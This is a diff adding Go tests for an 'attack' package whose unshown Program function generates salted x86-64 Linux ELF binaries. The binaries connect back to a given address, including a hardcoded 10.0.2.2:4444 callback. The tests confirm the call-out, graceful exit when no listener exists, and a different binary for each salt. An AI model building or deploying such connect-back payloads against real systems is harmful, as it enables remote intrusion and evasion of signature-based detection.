@@ -1,0 +1,90 @@
+package attack
+
+import (
+	"bytes"
+	"debug/elf"
+	"errors"
+	"io"
+	"net"
+	"net/netip"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"testing"
+)
+
+func TestProgramCallsOut(t *testing.T) {
+	if runtime.GOOS != "linux" || runtime.GOARCH != "amd64" {
+		t.Skip("needs x86-64 Linux")
+	}
+	l, err := net.Listen("tcp4", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	b, err := Program(l.Addr().(*net.TCPAddr).AddrPort(), []byte("salt"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(t.TempDir(), "program")
+	if err := os.WriteFile(path, b, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command(path)
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	c, err := l.Accept()
+	if err != nil {
+		t.Fatal(err)
+	}
+	said := make([]byte, len(greeting))
+	if _, err := io.ReadFull(c, said); err != nil || string(said) != greeting {
+		t.Errorf("said %q, %v", said, err)
+	}
+	c.Close()
+	if err := cmd.Wait(); err != nil {
+		t.Errorf("the program ended: %v", err)
+	}
+}
+
+func TestProgramEndsWithoutAttacker(t *testing.T) {
+	b, err := Program(netip.MustParseAddrPort("127.0.0.1:1"), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(t.TempDir(), "program")
+	if err := os.WriteFile(path, b, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	var exit *exec.ExitError
+	if err := exec.Command(path).Run(); errors.As(err, &exit) && exit.ExitCode() == -1 {
+		t.Errorf("the program was killed: %v", err)
+	}
+}
+
+func TestProgramIsNew(t *testing.T) {
+	to := netip.MustParseAddrPort("10.0.2.2:4444")
+	a, err := Program(to, []byte("a"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, err := Program(to, []byte("b"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if bytes.Equal(a, b) {
+		t.Error("another salt, the same program")
+	}
+	f, err := elf.NewFile(bytes.NewReader(a))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if f.Machine != elf.EM_X86_64 || f.Progs[0].Filesz != uint64(len(a)) {
+		t.Errorf("machine %v, %d bytes loaded of %d", f.Machine, f.Progs[0].Filesz, len(a))
+	}
+	if _, err := Program(netip.MustParseAddrPort("[::1]:1"), nil); err == nil {
+		t.Error("an IPv6 address was taken")
+	}
+}
